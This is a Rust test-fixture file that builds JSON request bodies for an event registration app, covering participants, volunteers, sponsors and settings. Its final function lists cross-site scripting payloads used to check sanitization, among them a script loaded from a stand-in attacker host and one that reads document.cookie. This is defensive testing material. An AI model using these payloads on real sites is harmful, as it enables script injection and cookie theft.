// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: PMPL-1.0-or-later

//! Request bodies for registration tests.

use serde_json::{json, Value};

/// A valid participant registration with a unique email.
pub fn participant(n: usize) -> Value {
    json!({
        "firstName": "Jamie",
        "lastName": "O'Brien",
        "email": format!("Player{n}@Example.com"),
        "phone": "(555) 123-4567",
        "skillLevel": "Intermediate",
        "dietaryRestrictions": "vegetarian"
    })
}

/// A valid volunteer sign-up with a unique email.
pub fn volunteer(n: usize) -> Value {
    json!({
        "firstName": "Sam",
        "lastName": "Rivera",
        "email": format!("helper{n}@example.org"),
        "phone": "+1 555 987 6543",
        "availability": ["5:00 PM - 7:30 PM (Tournament & Setup)"],
        "roles": ["Tournament Referee/Official", "Scorekeeping"],
        "emergencyContact": "Alex Rivera",
        "emergencyPhone": "555-000-1111"
    })
}

pub fn sponsor(name: &str, tier: &str, sort_order: i64) -> Value {
    json!({
        "name": name,
        "tier": tier,
        "website": "https://sponsor.example.com",
        "sortOrder": sort_order
    })
}

pub fn settings() -> Value {
    json!({
        "eventDate": "2025-09-26",
        "eventTime": "6:00 PM - 11:00 PM",
        "venue": "Riverside Courts",
        "acsLink": "https://www.cancer.org/involved/donate.html",
        "venmoHandle": "@Organizer",
        "maxParticipants": "48",
        "registrationOpen": "false"
    })
}

/// Markup that must never survive sanitization.
pub fn injection_strings() -> Vec<&'static str> {
    vec![
        "<script>alert('xss')</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<<script>script>alert(1)<</script>/script>",
        "<svg/onload=alert(1)>",
        "\"><script>document.cookie</script>",
    ]
}
